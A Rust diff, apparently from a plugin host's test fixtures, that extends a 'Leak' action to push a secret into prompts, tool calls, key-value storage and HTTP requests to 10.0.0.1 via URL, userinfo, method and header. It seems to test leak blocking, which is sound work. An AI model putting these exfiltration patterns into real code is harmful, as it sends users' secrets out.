@@ -117,7 +117,7 @@ pub enum Deed {
         /// Which.
         secret: String,
     },
-    /// Says a secret in the log, as an event, and to stdout; and returns it.
+    /// Says a secret in the log, as an event, to stdout and in every request; and returns it.
     Leak {
         /// Which.
         secret: String,
@@ -335,7 +335,23 @@ fn leak(ctx: &Ctx, name: &str) -> Result<Value, Failure> {
     ctx.info(&format!("log {value}"));
     println!("out {value}");
     ctx.emit("leak", &json!({ "value": value }))?;
-    Ok(json!(value))
+    // Who refuses a request says which.
+    let said = [
+        ctx.prompt(&value, &value).map(|words| json!(words)),
+        ctx.tool(&value, &json!({ value.as_str(): value })),
+        ctx.secret(&value).map(|_| json!("held")),
+        ctx.kv_get::<Value>(Scope::Plugin, &value).map(|found| json!(found)),
+        ctx.kv_set(Scope::Plugin, &value, &value).map(|version| json!(version)),
+        sent(ctx, Request::get(&format!("http://10.0.0.1/{value}?{value}"))),
+        sent(ctx, Request::get(&format!("http://{value}@10.0.0.1/"))),
+        sent(ctx, Request::new(&value, "http://10.0.0.1/")),
+        sent(ctx, Request::get("http://10.0.0.1/").header(&format!("{value}:"), &value)),
+    ];
+    Ok(json!({ "value": value, "said": said.map(crate::result) }))
+}
+
+fn sent(ctx: &Ctx, request: Request<'_>) -> Result<Value, Failure> {
+    ctx.fetch(request).map(|response| json!(response.status))
 }
 
 fn said<T>(result: std::io::Result<T>) -> Result<T, Failure> {
